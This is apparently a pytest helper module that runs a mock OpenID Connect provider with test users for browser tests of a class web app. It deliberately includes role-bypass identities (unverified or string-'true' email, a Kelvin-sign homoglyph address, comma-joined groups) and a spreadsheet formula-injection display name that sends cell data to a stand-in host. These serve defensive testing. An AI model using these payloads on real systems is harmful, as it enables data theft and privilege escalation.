"""The login side of the class-mode browser tests: a real OpenID Connect provider process
(`oidc-provider-mock`, module-scoped) with its people, and signing in through it.

Besides the class (Ada and Bo, learners; Lee, an instructor by verified e-mail) the provider has
the people issue 23 found who could claim the instructor's role at a lax provider: Lee's address
with `email_verified` missing (Microsoft Entra ID sends none) or the string "true", an address
with a compatibility character (KELVIN SIGN for the K of kate@school.test, an instructor), a
group claim sent as one comma-separated string; and Eve, whose display name is a formula."""

from __future__ import annotations

import contextlib
import json
import random
import shutil
import socket
import subprocess
import sys
import tempfile
import time
import urllib.request
from pathlib import Path

import pytest

from tests.e2e.learner_steps import main
from tests.e2e.server import free_port, wait_idle

USERS = [
    {"sub": "ada-sub", "name": "Ada", "email": "ada@school.test", "email_verified": True},
    {"sub": "bo-sub", "name": "Bo", "email": "bo@school.test", "email_verified": True},
    {"sub": "lee-sub", "name": "Lee", "email": "lee@school.test", "email_verified": True},
]
INSTRUCTOR_EMAILS = ["lee@school.test", "kate@school.test"]
INSTRUCTOR_GROUPS = ["dl-staff"]
ROLE_BYPASSES = [
    {"sub": "unverified-sub", "name": "Unverified", "email": "lee@school.test"},
    {"sub": "string-verified-sub", "name": "StringVerified", "email": "lee@school.test",
     "email_verified": "true"},
    {"sub": "kelvin-sub", "name": "Kelvin", "email": "\u212aate@school.test",
     "email_verified": True},
    {"sub": "comma-groups-sub", "name": "CommaGroups", "email": "cg@school.test",
     "email_verified": True, "groups": "students,dl-staff"},
]
FORMULA_NAME = '=HYPERLINK("http://evil.test/?"&A1,"Eve")'
EVE = {"sub": "eve-sub", "name": FORMULA_NAME, "email": "eve@school.test", "email_verified": True}


def _wait_http(url: str, process: subprocess.Popen, log: Path, timeout: float = 30) -> None:
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        if process.poll() is not None:
            raise RuntimeError(f"provider exited:\n{log.read_text()}")
        try:
            with urllib.request.urlopen(url, timeout=1):
                return
        except OSError:
            time.sleep(0.1)
    raise TimeoutError(f"{url} not ready:\n{log.read_text()}")


@contextlib.contextmanager
def running_provider(folder: Path, *, token_max_age_s: int | None = None):
    """An `oidc-provider-mock` process with every person above; yields its URL."""
    port = free_port()
    log = folder / "provider.log"
    command = [sys.executable, "-m", "oidc_provider_mock", "--port", str(port)]
    if token_max_age_s is not None:
        command += ["--token-max-age", str(token_max_age_s)]
    for user in [*USERS, *ROLE_BYPASSES, EVE]:
        command += ["--user-claims", json.dumps(user)]
    with open(log, "w") as out:
        process = subprocess.Popen(command, stdout=out, stderr=subprocess.STDOUT,
                                   start_new_session=True)
    url = f"http://127.0.0.1:{port}"
    try:
        _wait_http(f"{url}/.well-known/openid-configuration", process, log)
        yield url
    finally:
        process.terminate()
        process.wait(timeout=10)


@pytest.fixture(scope="module")
def provider(tmp_path_factory):
    with running_provider(tmp_path_factory.mktemp("oidc")) as url:
        yield url


@contextlib.contextmanager
def deployment_folder(prefix: str):
    """A folder for a `serve_class.sh` run that its replicas can use: run as root (CI), they run
    as the service user, who cannot enter pytest's private temporary folders. World-writable and
    sticky, like /tmp; the SQLite database and the state directory (secrets, spool) go in it."""
    folder = Path(tempfile.mkdtemp(prefix=prefix))
    folder.chmod(0o1777)
    try:
        yield folder
    finally:
        shutil.rmtree(folder, ignore_errors=True)


def consecutive_free_ports(count: int) -> int:
    """A base port with `count` free ports from it (serve_class.sh numbers the replicas so)."""
    for _ in range(200):
        base = random.randrange(30000, 60000)
        try:
            sockets = []
            for port in range(base, base + count):
                sock = socket.socket()
                sockets.append(sock)
                sock.bind(("127.0.0.1", port))
            return base
        except OSError:
            continue
        finally:
            for sock in sockets:
                sock.close()
    raise RuntimeError("no free ports")


def sign_in(page, base_url: str, sub: str) -> None:
    page.goto(f"{base_url}/?lang=en")
    main(page).get_by_role("button", name="Sign in").click()
    page.get_by_role("button", name=sub, exact=True).click()  # the provider's form
    page.wait_for_url(f"{base_url}/**")
    page.wait_for_selector('.st-key-site_nav', state="attached")
    main(page).locator("h1").first.wait_for()
    wait_idle(page)


def sidebar(page):
    return page.locator('[data-testid="stSidebar"]')


def nav_links(page) -> set[str]:
    # Each link's text is its icon's name, a line break, then its title.
    texts = sidebar(page).locator('.st-key-site_nav a').all_inner_texts()
    return {text.strip().split("\n")[-1] for text in texts}
